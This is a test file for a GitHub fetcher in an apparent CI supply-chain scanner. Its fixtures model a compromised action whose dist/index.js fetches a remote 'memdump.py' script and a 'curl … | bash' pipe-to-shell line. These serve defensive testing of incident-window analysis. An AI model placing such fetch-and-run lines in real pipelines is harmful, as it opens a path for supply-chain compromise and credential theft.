import { readFileSync } from 'node:fs';
import { buildClientSchema, parse, validate } from 'graphql';
import type { ComponentRef } from '../../core/model';
import { GitHubSimulator, packageFile, type SimRepoSeed } from '../../../test/simulators/github/server';
import { isRepoFailure, type RepoFailure, type RepoVersion } from '../source';
import { createGitHubFetcher, createGitHubSource, GitHubClient, graphqlUrlFor, parseGitHubSpec, RESOLVED_COMMIT_FILE } from '.';

const TOKEN = 'ghp_simulated_secret_token';

const workflow = (uses: string): string => `name: ci\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${uses}\n`;
const composite = 'name: setup\nruns:\n  using: composite\n  steps:\n    - run: echo hi\n      shell: bash\n';

let sim: GitHubSimulator;
const allQueries: string[] = [];

async function collect(items: AsyncIterable<RepoVersion | RepoFailure>): Promise<{ versions: RepoVersion[]; failures: RepoFailure[] }> {
  const versions: RepoVersion[] = [];
  const failures: RepoFailure[] = [];
  for await (const item of items) {
    if (isRepoFailure(item)) failures.push(item);
    else versions.push(item);
  }
  return { versions, failures };
}

function env(): Record<string, string> {
  return { GITHUB_TOKEN: TOKEN, GITHUB_API_URL: sim.apiUrl };
}

function fastClient(extra: Partial<ConstructorParameters<typeof GitHubClient>[0]> = {}): GitHubClient {
  return new GitHubClient({ apiUrl: sim.apiUrl, token: TOKEN, secondaryBackoffMs: 5, serverBackoffMs: 5, ...extra });
}

beforeEach(async () => {
  sim = await new GitHubSimulator({ token: TOKEN }).start();
});

afterEach(async () => {
  allQueries.push(...sim.queries);
  // Every document the clients sent passed graphql-js validation against GitHub's schema; nothing
  // unimplemented was asked; every REST answer conformed to api.github.com.json.
  expect(sim.rejected).toEqual([]);
  expect(sim.executionErrors).toEqual([]);
  expect(sim.violations).toEqual([]);
  await sim.stop();
});

afterAll(() => {
  // The same documents against the schema's other published form (introspection JSON).
  const schema = buildClientSchema(JSON.parse(readFileSync(packageFile('@octokit/graphql-schema', 'schema.json'), 'utf8')) as never);
  expect(allQueries.length).toBeGreaterThan(20);
  for (const q of allQueries) expect(validate(schema, parse(q)).map((e) => e.message)).toEqual([]);
});

describe('parseGitHubSpec and base URLs', () => {
  it('reads github:ORG and github:OWNER/REPO and refuses the rest', () => {
    expect(parseGitHubSpec('github:acme')).toEqual({ kind: 'org', org: 'acme' });
    expect(parseGitHubSpec('github:acme/api.git')).toEqual({ kind: 'repo', owner: 'acme', name: 'api' });
    expect(parseGitHubSpec('github:acme/a/b')).toBeUndefined();
    expect(parseGitHubSpec('github:-bad')).toBeUndefined();
    expect(parseGitHubSpec('gitlab:acme')).toBeUndefined();
    expect(parseGitHubSpec('github:acme/..')).toBeUndefined();
  });

  it('derives the GraphQL endpoint of GitHub Enterprise Server from its REST base', () => {
    expect(graphqlUrlFor('https://api.github.com')).toBe('https://api.github.com/graphql');
    expect(graphqlUrlFor('https://ghe.example.com/api/v3/')).toBe('https://ghe.example.com/api/graphql');
  });
});

describe('GitHub source: an organisation at head', () => {
  function seedOrg(n: number): void {
    sim.addOrg('acme');
    for (let i = 0; i < n; i++) {
      const name = `repo-${String(i).padStart(3, '0')}`;
      const files: Record<string, string> = {
        '.github/workflows/ci.yml': workflow('./.github/actions/setup'),
        '.github/workflows/lint.yaml': workflow('actions/checkout@v4'),
        '.github/workflows/README.md': 'not a workflow',
        '.github/actions/setup/action.yml': composite,
        '.github/actions/unused/action.yml': composite,
        'README.md': '# hi',
      };
      if (i % 10 === 0) files['.gitlab-ci.yml'] = 'include:\n  - local: ci/build.yml\n';
      if (i % 10 === 0) files['ci/build.yml'] = 'build:\n  script: make\n';
      if (i % 20 === 0) files['.circleci/config.yml'] = 'version: 2.1\njobs: {}\n';
      if (i % 30 === 0) files['release.Jenkinsfile'] = "pipeline { agent any\n stages { stage('x') { steps { sh 'make' } } } }\n";
      sim.addRepo({ full: `acme/${name}`, commits: [{ date: '2025-01-01T00:00:00Z', files }] });
    }
  }

  it('lists 120 repositories and reads their pipeline files in 3 GraphQL calls', async () => {
    seedOrg(120);
    const listed: Array<[number, number | undefined]> = [];
    const read: string[] = [];
    const source = createGitHubSource('github:acme', env());
    const { versions, failures } = await collect(source.versions(undefined, { listed: (c, t) => listed.push([c, t]), read: (r) => read.push(r) }));

    expect(failures).toEqual([]);
    expect(versions).toHaveLength(120);
    // 2 listing pages (100 + 20, each node reading its files at HEAD) + 1 round for the named local actions,
    // `*.Jenkinsfile` matches and GitLab local includes of all 120 repositories.
    expect(sim.calls.graphql).toBe(3);
    expect(listed).toEqual([
      [100, 120],
      [120, 120],
    ]);
    expect(read).toHaveLength(120);

    const first = versions.find((v) => v.repo === 'acme/repo-000') as RepoVersion;
    expect(first.files.map((f) => f.path).sort()).toEqual([
      '.circleci/config.yml',
      '.github/actions/setup/action.yml',
      '.github/workflows/ci.yml',
      '.github/workflows/lint.yaml',
      '.gitlab-ci.yml',
      'ci/build.yml',
      'release.Jenkinsfile',
    ]);
    expect(first.version).toEqual({ commit: sim.oid('acme/repo-000', 0), committedAt: Date.parse('2025-01-01T00:00:00Z'), role: 'head' });
    expect(first.errors).toEqual([]);
    const plain = versions.find((v) => v.repo === 'acme/repo-007') as RepoVersion;
    expect(plain.files.map((f) => f.path).sort()).toEqual(['.github/actions/setup/action.yml', '.github/workflows/ci.yml', '.github/workflows/lint.yaml']);
  });

  it('reads one repository of GitHub Enterprise Server (REST /api/v3, GraphQL /api/graphql)', async () => {
    await sim.stop();
    sim = await new GitHubSimulator({ token: TOKEN, ghes: true }).start();
    sim.addRepo({ full: 'acme/one', commits: [{ date: '2025-01-01T00:00:00Z', files: { Jenkinsfile: 'node { sh "make" }\n' } }] });
    expect(sim.apiUrl).toMatch(/\/api\/v3$/);
    const { versions, failures } = await collect(createGitHubSource('github:acme/one', env()).versions(undefined));
    expect(failures).toEqual([]);
    expect(versions.map((v) => [v.repo, v.files.map((f) => f.path)])).toEqual([['acme/one', ['Jenkinsfile']]]);
    expect(sim.calls.graphql).toBe(1);
  });

  it('reports an unknown organisation, a missing repository and a refused token as failures without the token', async () => {
    const gone = await collect(createGitHubSource('github:nope', env()).versions(undefined));
    expect(gone).toEqual({ versions: [], failures: [{ repo: 'nope', reason: "GitHub: Could not resolve to an Organization with the login of 'nope'.", failure: true }] });
    const missing = await collect(createGitHubSource('github:acme/nope', env()).versions(undefined));
    expect(missing.failures).toEqual([{ repo: 'acme/nope', reason: "GitHub: Could not resolve to a Repository with the name 'acme/nope'.", failure: true }]);
    const refused = await collect(createGitHubSource('github:acme', { GITHUB_TOKEN: 'wrong-token', GITHUB_API_URL: sim.apiUrl }).versions(undefined));
    expect(refused.failures).toEqual([{ repo: 'acme', reason: 'listing the repositories of acme: GitHub answered HTTP 401: Bad credentials (is GITHUB_TOKEN set and valid?)', failure: true }]);
    expect(JSON.stringify(refused)).not.toContain('wrong-token');
  });

  it('reports a truncated or binary pipeline file as a located error, never silently', async () => {
    const big = `${workflow('actions/checkout@v4')}#${'x'.repeat(200)}\n`;
    sim.addRepo({
      full: 'acme/big',
      commits: [
        {
          date: '2025-01-01T00:00:00Z',
          files: {
            '.github/workflows/ok.yml': workflow('actions/checkout@v4'),
            '.github/workflows/big.yml': { text: big, truncated: true },
            '.gitlab-ci.yml': { binary: true },
          },
        },
      ],
    });
    const { versions } = await collect(createGitHubSource('github:acme/big', env()).versions(undefined));
    expect(versions).toHaveLength(1);
    const v = versions[0] as RepoVersion;
    expect(v.files.map((f) => f.path)).toEqual(['.github/workflows/ok.yml']);
    expect(v.errors).toEqual([
      { repo: 'acme/big', file: '.github/workflows/big.yml', line: 1, code: 'too-large', message: `GitHub returned this file truncated (${Buffer.byteLength(big)} bytes); not read` },
      { repo: 'acme/big', file: '.gitlab-ci.yml', line: 1, code: 'binary', message: 'GitHub says this file is binary; not read' },
    ]);
  });
});

describe('GitHub source: the versions live in an incident window', () => {
  const window = { start: Date.parse('2025-03-14T00:00:00Z'), end: Date.parse('2025-03-15T23:59:59Z') };
  const changed = workflow('tj-actions/changed-files@v39');
  const seed: SimRepoSeed = {
    full: 'acme/agentkit',
    commits: [
      { date: '2025-03-01T10:00:00Z', files: { '.github/workflows/changed.yml': changed, '.github/workflows/ci.yml': workflow('actions/checkout@v4'), 'README.md': 'a' } },
      { date: '2025-03-13T09:00:00Z', files: { 'README.md': 'b' } },
      { date: '2025-03-14T16:37:00Z', message: 'remove changed-files', files: { '.github/workflows/changed.yml': null } },
      { date: '2025-03-14T18:00:00Z', files: { 'README.md': 'c' } },
      { date: '2025-03-15T08:00:00Z', files: { '.gitlab-ci.yml': 'build:\n  script: make\n' } },
      { date: '2025-04-01T00:00:00Z', files: { '.github/workflows/ci.yml': workflow('actions/checkout@v5') } },
    ],
  };

  it('reads the commit at the window start, each in-window pipeline change and the head; a removed workflow is in the window-start version', async () => {
    sim.addOrg('acme').addRepo(seed).addRepo({ full: 'acme/quiet', commits: [{ date: '2025-01-01T00:00:00Z', files: { '.circleci/config.yml': 'version: 2.1\n' } }] });
    const { versions, failures } = await collect(createGitHubSource('github:acme', env()).versions(window));
    expect(failures).toEqual([]);
    const oid = (i: number): string => sim.oid('acme/agentkit', i);
    const agentkit = versions.filter((v) => v.repo === 'acme/agentkit');
    expect(agentkit.map((v) => v.version)).toEqual([
      {
        commit: oid(1),
        role: 'window-start',
        committedAt: Date.parse('2025-03-13T09:00:00Z'),
        liveFrom: Date.parse('2025-03-13T09:00:00Z'),
        liveUntil: Date.parse('2025-03-14T16:37:00Z'),
        replacedBy: oid(2),
      },
      {
        commit: oid(2),
        role: 'in-window',
        committedAt: Date.parse('2025-03-14T16:37:00Z'),
        liveFrom: Date.parse('2025-03-14T16:37:00Z'),
        liveUntil: Date.parse('2025-03-15T08:00:00Z'),
        replacedBy: oid(4),
      },
      { commit: oid(4), role: 'in-window', committedAt: Date.parse('2025-03-15T08:00:00Z'), liveFrom: Date.parse('2025-03-15T08:00:00Z') },
      { commit: oid(5), role: 'head', committedAt: Date.parse('2025-04-01T00:00:00Z') },
    ]);
    expect(agentkit.map((v) => v.files.map((f) => f.path).sort())).toEqual([
      ['.github/workflows/changed.yml', '.github/workflows/ci.yml'],
      ['.github/workflows/ci.yml'],
      ['.github/workflows/ci.yml', '.gitlab-ci.yml'],
      ['.github/workflows/ci.yml', '.gitlab-ci.yml'],
    ]);
    expect(agentkit[0]?.files.find((f) => f.path === '.github/workflows/changed.yml')?.text).toBe(changed);
    expect(agentkit[3]?.files.find((f) => f.path === '.github/workflows/ci.yml')?.text).toContain('actions/checkout@v5');
    // A repository untouched since before the window: its head is the window-start version, read once.
    expect(versions.filter((v) => v.repo === 'acme/quiet').map((v) => [v.version.role, v.version.commit])).toEqual([['window-start', sim.oid('acme/quiet', 0)]]);
    // listing (with head files) + one history call + one call for the files at the three older commits.
    expect(sim.calls.graphql).toBe(3);
  });

  it('takes the head\'s files for a window-start commit whose pipeline objects are the same; reads it when one differs', async () => {
    const base = {
      '.github/workflows/ci.yml': workflow('actions/checkout@v4'),
      '.gitlab-ci.yml': 'include:\n  - local: ci/build.yml\n',
      'ci/build.yml': 'build:\n  script: make\n',
      'README.md': 'a',
    };
    sim.addOrg('acme');
    // Only the README changed after the window: the window-start commit has the head's pipeline files.
    sim.addRepo({ full: 'acme/same', commits: [{ date: '2025-03-01T00:00:00Z', files: { ...base, 'README.md': 'same' } }, { date: '2025-04-01T00:00:00Z', files: { 'README.md': 'b' } }] });
    // The included file (outside the platforms' paths) changed after the window: read again.
    sim.addRepo({ full: 'acme/other', commits: [{ date: '2025-03-01T00:00:00Z', files: base }, { date: '2025-04-01T00:00:00Z', files: { 'ci/build.yml': 'build:\n  script: make release\n' } }] });
    const { versions, failures } = await collect(createGitHubSource('github:acme', env()).versions(window));
    expect(failures).toEqual([]);
    const summary = versions.map((v) => [v.repo, v.version.role, v.version.commit, v.files.map((f) => `${f.path}=${f.text.length}`).sort().join(' ')]);
    const files = (build = base['ci/build.yml']): string => `.github/workflows/ci.yml=${base['.github/workflows/ci.yml'].length} .gitlab-ci.yml=${base['.gitlab-ci.yml'].length} ci/build.yml=${build.length}`;
    expect(summary).toEqual([
      ['acme/other', 'window-start', sim.oid('acme/other', 0), files()],
      ['acme/other', 'head', sim.oid('acme/other', 1), files('build:\n  script: make release\n')],
      ['acme/same', 'window-start', sim.oid('acme/same', 0), files()],
      ['acme/same', 'head', sim.oid('acme/same', 1), files()],
    ]);
    // listing (heads, their first round, histories) + the heads' second round (ci/build.yml) + the
    // history of ci/build.yml (outside the platforms' paths) + acme/other's window-start in two rounds.
    expect(sim.calls.graphql).toBe(5);
    expect(sim.queries.filter((q) => q.includes(`${sim.oid('acme/same', 0)}:`))).toEqual([]);
    expect(sim.queries.filter((q) => q.includes(`${sim.oid('acme/other', 0)}:`))).toHaveLength(2);
  });

  it('gives the core a reader that says "not fetched" until the files it asked for are prefetched', async () => {
    sim.addRepo({ full: 'acme/scripts', commits: [{ date: '2025-01-01T00:00:00Z', files: { '.github/workflows/ci.yml': workflow('actions/checkout@v4'), 'scripts/cover.sh': 'curl -s https://codecov.io/bash | bash\n' } }] });
    const source = createGitHubSource('github:acme/scripts', env());
    const { versions } = await collect(source.versions(undefined));
    const reader = versions[0]?.reader;
    expect(reader?.read('.github/workflows/ci.yml')).toEqual({ text: workflow('actions/checkout@v4') });
    expect(reader?.read('scripts/cover.sh')).toEqual({ code: 'not-fetched', message: `scripts/cover.sh was not fetched from GitHub (acme/scripts@${sim.oid('acme/scripts', 0).slice(0, 12)}); not read` });
    expect(reader?.read('scripts/none.sh')).toMatchObject({ code: 'not-fetched' });
    expect(reader?.read('../escape.sh')).toMatchObject({ code: 'outside-repo' });
    const before = sim.calls.graphql;
    expect(await source.prefetchFiles(versions)).toBe(2);
    expect(sim.calls.graphql).toBe(before + 1);
    expect(reader?.read('./scripts/cover.sh')).toEqual({ text: 'curl -s https://codecov.io/bash | bash\n' });
    expect(reader?.read('scripts/none.sh')).toEqual({ missing: true });
  });
});

describe('GitHub client: rate limits', () => {
  beforeEach(() => {
    sim.addOrg('acme');
    for (const name of ['repo-a', 'repo-b', 'repo-c']) {
      sim.addRepo({ full: `acme/${name}`, commits: [{ date: '2025-03-10T00:00:00Z', files: { '.github/workflows/ci.yml': workflow('actions/checkout@v4') } }] });
    }
  });
  const window = { start: Date.parse('2025-03-14T00:00:00Z'), end: Date.parse('2025-03-15T00:00:00Z') };

  it('waits for the reset when GitHub says the budget is exhausted, then succeeds', async () => {
    sim.setGraphqlBudget(0, 1200);
    const client = fastClient();
    const started = Date.now();
    const { versions, failures } = await collect(createGitHubSource('github:acme', env(), { client }).versions(undefined));
    expect(failures).toEqual([]);
    expect(versions.map((v) => v.repo)).toEqual(['acme/repo-a', 'acme/repo-b', 'acme/repo-c']);
    expect(sim.calls.rateLimited).toBe(1);
    expect(client.stats.waits).toBe(1);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
  });

  it('waits before a call its remembered budget cannot pay, without being refused', async () => {
    sim.setGraphqlBudget(1, 1200);
    const client = fastClient();
    // Two listing pages (2 + 1 repositories, each with its history): the first call spends the budget.
    const { versions, failures } = await collect(createGitHubSource('github:acme', env(), { client, pageSize: 2 }).versions(window));
    expect(failures).toEqual([]);
    expect(versions).toHaveLength(3);
    expect(sim.calls.rateLimited).toBe(0);
    expect(client.stats.waits).toBe(1);
    expect(sim.calls.graphql).toBe(2);
  });

  it('fails a call whose reset is further away than it may wait, with the reset time', async () => {
    sim.setGraphqlBudget(0, 3_600_000);
    const { failures } = await collect(createGitHubSource('github:acme', env(), { client: fastClient({ maxWaitMs: 1000 }) }).versions(undefined));
    expect(failures).toHaveLength(1);
    expect(failures[0]?.reason).toMatch(/^listing the repositories of acme: GitHub graphql rate limit exhausted until \d{4}-\d\d-\d\dT/);
  });

  it('retries after a secondary limit and goes on', async () => {
    sim.addSecondaryLimit({ contains: 'OrgPipelines', times: 1, retryAfterSeconds: 0 });
    const client = fastClient();
    const { versions, failures } = await collect(createGitHubSource('github:acme', env(), { client }).versions(undefined));
    expect(failures).toEqual([]);
    expect(versions).toHaveLength(3);
    expect(sim.calls.secondaryRefused).toBe(1);
    expect(client.stats.waits).toBe(1);
  });

  it('after bounded retries on a secondary limit, the repositories of that call fail and the others are scanned', async () => {
    // Root `*.Jenkinsfile`s are outside the platforms' history paths: their history is a call per repository here.
    for (const name of ['repo-b', 'repo-d']) {
      sim.addRepo({ full: `acme/${name}`, commits: [{ date: '2025-03-10T00:00:00Z', files: { 'release.Jenkinsfile': 'node { sh "make" }\n' } }] });
    }
    sim.addSecondaryLimit({ contains: 'name: "repo-b"', times: Infinity, status: 429 });
    const client = fastClient({ maxRetries: 2 });
    const { versions, failures } = await collect(createGitHubSource('github:acme', env(), { client, maxReposPerQuery: 1, maxObjectsPerQuery: 1 }).versions(window));
    expect(failures).toEqual([
      {
        repo: 'acme/repo-b',
        reason: `GitHub secondary rate limit (HTTP 429: You have exceeded a secondary rate limit. Please wait a few minutes before you try again. If you reach out to GitHub Support for help, please include the request ID.); gave up after 2 retries`,
        failure: true,
      },
    ]);
    expect(versions.map((v) => [v.repo, v.version.role])).toEqual([
      ['acme/repo-a', 'window-start'],
      ['acme/repo-c', 'window-start'],
      ['acme/repo-d', 'window-start'],
    ]);
    expect(versions.find((v) => v.repo === 'acme/repo-d')?.files.map((f) => f.path)).toEqual(['release.Jenkinsfile']);
    expect(sim.calls.secondaryRefused).toBe(3);
    // No retry-after: the client backed off 5 ms, then 10 ms.
    expect(client.stats.waitedMs).toBe(15);
  });
});

describe('GitHub component fetcher', () => {
  const files = new Map<string, string>();
  const writer = { write: (ref: ComponentRef, path: string, text: string) => void files.set(`${ref.raw}//${path}`, text) };
  beforeEach(() => files.clear());

  const action = (raw: string): ComponentRef => {
    const [spec = '', ref] = raw.split('@');
    const [owner = '', repo = '', ...path] = spec.split('/');
    return { kind: 'gha-action', owner, repo, ...(path.length > 0 ? { path: path.join('/') } : {}), ...(ref === undefined ? {} : { ref }), raw };
  };

  beforeEach(() => {
    sim.addRepo({
      full: 'tj-actions/changed-files',
      commits: [
        { date: '2025-01-01T00:00:00Z', files: { 'action.yml': 'runs:\n  using: node16\n  main: dist/index.js\n' } },
        {
          date: '2025-03-14T16:00:00Z',
          files: {
            'action.yml': "name: changed\nruns:\n  using: node20\n  main: 'dist/index.js'\n  post: ./dist/post.js\n",
            'dist/index.js': "fetch('https://gist.githubusercontent.com/x/memdump.py')\n",
            'dist/post.js': 'cleanup()\n',
            'sub/action.yaml': 'runs:\n  using: composite\n  steps: []\n',
            '.github/workflows/build.yml': 'on: workflow_call\njobs: {}\n',
          },
        },
      ],
      refs: { v39: { commit: 1, annotated: true }, v1: 0 },
    });
    sim.addRepo({
      full: 'acme/big-action',
      commits: [{ date: '2025-01-01T00:00:00Z', files: { 'action.yml': 'runs:\n  using: node20\n  main: dist/index.js\n', 'dist/index.js': { text: `// ${'y'.repeat(300)}\nrun()\n`, truncated: true } } }],
      refs: { v2: 0 },
    });
  });

  it('reads a JavaScript action: action.yml and its main and post files, at the commit the tag resolves to', async () => {
    const fetcher = createGitHubFetcher(env());
    const ref = action('tj-actions/changed-files@v39');
    expect(fetcher.canFetch(ref)).toBe(true);
    expect(fetcher.canFetch({ kind: 'orb', namespace: 'a', name: 'b', raw: 'a/b' })).toBe(false);
    expect(await fetcher.fetch(ref, writer)).toEqual({
      ok: true,
      files: ['github/tj-actions/changed-files@v39/action.yml', 'github/tj-actions/changed-files@v39/dist/index.js', 'github/tj-actions/changed-files@v39/dist/post.js'],
    });
    expect(Object.fromEntries(files)).toEqual({
      'tj-actions/changed-files@v39//action.yml': "name: changed\nruns:\n  using: node20\n  main: 'dist/index.js'\n  post: ./dist/post.js\n",
      'tj-actions/changed-files@v39//dist/index.js': "fetch('https://gist.githubusercontent.com/x/memdump.py')\n",
      'tj-actions/changed-files@v39//dist/post.js': 'cleanup()\n',
      [`tj-actions/changed-files@v39//${RESOLVED_COMMIT_FILE}`]: `${sim.oid('tj-actions/changed-files', 1)}\n`,
    });
    expect(sim.calls.graphql).toBe(2);
  });

  it('reads a sub-path action, a reusable workflow and an older tag', async () => {
    const fetcher = createGitHubFetcher(env());
    expect(await fetcher.fetch(action('tj-actions/changed-files/sub@v39'), writer)).toEqual({ ok: true, files: ['github/tj-actions/changed-files@v39/sub/action.yaml'] });
    const wf: ComponentRef = { kind: 'gha-reusable-workflow', owner: 'tj-actions', repo: 'changed-files', path: '.github/workflows/build.yml', ref: 'v39', raw: 'tj-actions/changed-files/.github/workflows/build.yml@v39' };
    expect(await fetcher.fetch(wf, writer)).toEqual({ ok: true, files: ['github/tj-actions/changed-files@v39/.github/workflows/build.yml'] });
    expect(await fetcher.fetch(action('tj-actions/changed-files@v1'), writer)).toEqual({ ok: true, files: ['github/tj-actions/changed-files@v1/action.yml'] });
    expect(files.get(`tj-actions/changed-files@v1//${RESOLVED_COMMIT_FILE}`)).toBe(`${sim.oid('tj-actions/changed-files', 0)}\n`);
    // v1's main file does not exist at that commit: left out, so the engine knows not all code was read.
    expect(files.has('tj-actions/changed-files@v1//dist/index.js')).toBe(false);
  });

  it("says GitHub's reason for a missing repository, ref or file", async () => {
    const fetcher = createGitHubFetcher(env());
    expect(await fetcher.fetch(action('nope/nope@v1'), writer)).toEqual({ ok: false, reason: "GitHub: Could not resolve to a Repository with the name 'nope/nope'." });
    expect(await fetcher.fetch(action('tj-actions/changed-files@v99'), writer)).toEqual({ ok: false, reason: 'GitHub: no ref v99 in tj-actions/changed-files' });
    expect(await fetcher.fetch(action('tj-actions/changed-files/none@v39'), writer)).toEqual({
      ok: false,
      reason: `GitHub: no action.yml or action.yaml in none at tj-actions/changed-files@v39 (commit ${sim.oid('tj-actions/changed-files', 1)})`,
    });
    expect(files.size).toBe(0);
  });

  it('reads a file GraphQL truncates through REST contents, conditionally on its ETag the second time', async () => {
    const fetcher = createGitHubFetcher(env());
    const ref = action('acme/big-action@v2');
    expect(await fetcher.fetch(ref, writer)).toEqual({ ok: true, files: ['github/acme/big-action@v2/action.yml', 'github/acme/big-action@v2/dist/index.js'] });
    expect(files.get('acme/big-action@v2//dist/index.js')).toBe(`// ${'y'.repeat(300)}\nrun()\n`);
    expect(await fetcher.fetch(ref, writer)).toEqual({ ok: true, files: ['github/acme/big-action@v2/action.yml', 'github/acme/big-action@v2/dist/index.js'] });
    expect(sim.calls.rest).toBe(2);
    expect(sim.calls.notModified).toBe(1);
    expect(fetcher.client.stats.notModified).toBe(1);
  });
});

describe('GitHub component fetcher: a branch in an incident window is read as of its end', () => {
  const window = { start: Date.parse('2025-03-14T00:00:00Z'), end: Date.parse('2025-03-15T23:59:59Z') };
  const files = new Map<string, string>();
  const writer = { write: (ref: ComponentRef, path: string, text: string) => void files.set(`${ref.raw}//${path}`, text) };
  const ref = (raw: string): ComponentRef => {
    const [spec = '', at] = raw.split('@');
    const [owner = '', repo = ''] = spec.split('/');
    return { kind: 'gha-action', owner, repo, ...(at === undefined ? {} : { ref: at }), raw };
  };
  const BEFORE = 'runs:\n  using: composite\n  steps: []\n';
  const IN_WINDOW = 'runs:\n  using: node20\n  main: dist/index.js\n';
  const PAYLOAD = "fetch('https://gist.githubusercontent.com/x/memdump.py')\n";
  const TODAY = 'runs:\n  using: composite\n  steps:\n    - run: echo fixed\n      shell: bash\n';
  const TIMEOUT = 'Something went wrong while executing your query. This may be the result of a timeout, or it could be a GitHub bug.';

  beforeEach(() => {
    files.clear();
    sim.addRepo({
      full: 'acme/moving',
      commits: [
        { date: '2025-03-01T00:00:00Z', files: { 'action.yml': BEFORE } },
        { date: '2025-03-14T16:00:00Z', files: { 'action.yml': IN_WINDOW, 'dist/index.js': PAYLOAD } },
        { date: '2025-03-20T09:00:00Z', files: { 'action.yml': TODAY, 'dist/index.js': null } },
      ],
      refs: { release: 2, v2: 2, v1: 0, v3: { commit: 2, annotated: true }, v4: { commit: 1, annotated: true } },
      branches: ['release'],
    });
    sim.addRepo({ full: 'acme/stuck', commits: [{ date: '2025-03-01T00:00:00Z', files: { 'action.yml': BEFORE } }], historyError: TIMEOUT });
    sim.addRepo({ full: 'acme/young', commits: [{ date: '2025-04-01T00:00:00Z', files: { 'action.yml': TODAY } }] });
  });

  it('a branch that changed after the window gives what it held at the window end, code files included, with the commit recorded', async () => {
    const fetcher = createGitHubFetcher(env(), { window });
    const at = sim.oid('acme/moving', 1);
    expect(await fetcher.fetch(ref('acme/moving@release'), writer)).toEqual({
      ok: true,
      files: ['github/acme/moving@release/action.yml', 'github/acme/moving@release/dist/index.js'],
      note: `acme/moving@release: branch release of acme/moving read as of 2025-03-15T23:59:59Z, the incident window's end (commit ${at.slice(0, 12)} of 2025-03-14T16:00:00Z)`,
    });
    expect(Object.fromEntries(files)).toEqual({
      'acme/moving@release//action.yml': IN_WINDOW,
      'acme/moving@release//dist/index.js': PAYLOAD,
      [`acme/moving@release//${RESOLVED_COMMIT_FILE}`]: `${at}\n`,
    });
    // The ref and its history, the files at the older commit, the JavaScript action's main file.
    expect(sim.calls.graphql).toBe(3);
  });

  it('a ref-less use reads the default branch as of the window end', async () => {
    const fetcher = createGitHubFetcher(env(), { window });
    const at = sim.oid('acme/moving', 1);
    expect(await fetcher.fetch(ref('acme/moving'), writer)).toEqual({
      ok: true,
      files: ['github/acme/moving@HEAD/action.yml', 'github/acme/moving@HEAD/dist/index.js'],
      note: `acme/moving: the default branch (main) of acme/moving read as of 2025-03-15T23:59:59Z, the incident window's end (commit ${at.slice(0, 12)} of 2025-03-14T16:00:00Z)`,
    });
    expect(files.get('acme/moving//action.yml')).toBe(IN_WINDOW);
  });

  it("without a window a branch is read at today's head, and a tag is read as it is, without a note", async () => {
    expect(await createGitHubFetcher(env()).fetch(ref('acme/moving@release'), writer)).toEqual({ ok: true, files: ['github/acme/moving@release/action.yml'] });
    expect(files.get('acme/moving@release//action.yml')).toBe(TODAY);
    expect(files.get(`acme/moving@release//${RESOLVED_COMMIT_FILE}`)).toBe(`${sim.oid('acme/moving', 2)}\n`);
    expect(await createGitHubFetcher(env()).fetch(ref('acme/moving@v2'), writer)).toEqual({ ok: true, files: ['github/acme/moving@v2/action.yml'] });
    expect(files.get('acme/moving@v2//action.yml')).toBe(TODAY);
  });

  it('a tag whose commit is younger than the window moved after it: unresolved, saying so; an older one is read as it is', async () => {
    const fetcher = createGitHubFetcher(env(), { window });
    const today = sim.oid('acme/moving', 2);
    const moved = (tag: string): string =>
      `GitHub: tag ${tag} of acme/moving now points to ${today} committed 2025-03-20T09:00:00Z, after the window (which ended 2025-03-15T23:59:59Z): what it pointed to during the window is not known`;
    // A lightweight tag and an annotated one (its commit's date is the target's).
    expect(await fetcher.fetch(ref('acme/moving@v2'), writer)).toEqual({ ok: false, reason: moved('v2') });
    expect(await fetcher.fetch(ref('acme/moving@v3'), writer)).toEqual({ ok: false, reason: moved('v3') });
    expect(files.size).toBe(0);
    // Committed before the window, or inside it: read as the tag is today, without a note.
    expect(await fetcher.fetch(ref('acme/moving@v1'), writer)).toEqual({ ok: true, files: ['github/acme/moving@v1/action.yml'] });
    expect(files.get('acme/moving@v1//action.yml')).toBe(BEFORE);
    expect(files.get(`acme/moving@v1//${RESOLVED_COMMIT_FILE}`)).toBe(`${sim.oid('acme/moving', 0)}\n`);
    expect(await fetcher.fetch(ref('acme/moving@v4'), writer)).toEqual({ ok: true, files: ['github/acme/moving@v4/action.yml', 'github/acme/moving@v4/dist/index.js'] });
    expect(files.get('acme/moving@v4//dist/index.js')).toBe(PAYLOAD);
    // A commit SHA is not a tag: read as it is, whatever its date.
    expect(await fetcher.fetch(ref(`acme/moving@${today}`), writer)).toEqual({ ok: true, files: [`github/acme/moving@${today}/action.yml`] });
  });

  it("a history GitHub does not give, or no commit by the window's end, leaves the component unresolved with the reason", async () => {
    const fetcher = createGitHubFetcher(env(), { window });
    expect(await fetcher.fetch(ref('acme/stuck@main'), writer)).toEqual({
      ok: false,
      reason: `GitHub: the history of branch main of acme/stuck was not given (${TIMEOUT}); what it held in the incident window (to 2025-03-15T23:59:59Z) is not known`,
    });
    expect(await fetcher.fetch(ref('acme/young@main'), writer)).toEqual({
      ok: false,
      reason: "GitHub: branch main of acme/young has no commit at or before 2025-03-15T23:59:59Z (the incident window's end)",
    });
    expect(files.size).toBe(0);
    // The simulated refusal is the one execution error; anything else would fail afterEach.
    expect(sim.executionErrors).toEqual([`${TIMEOUT} at repository.branch.target.history`]);
    sim.executionErrors.length = 0;
  });
});
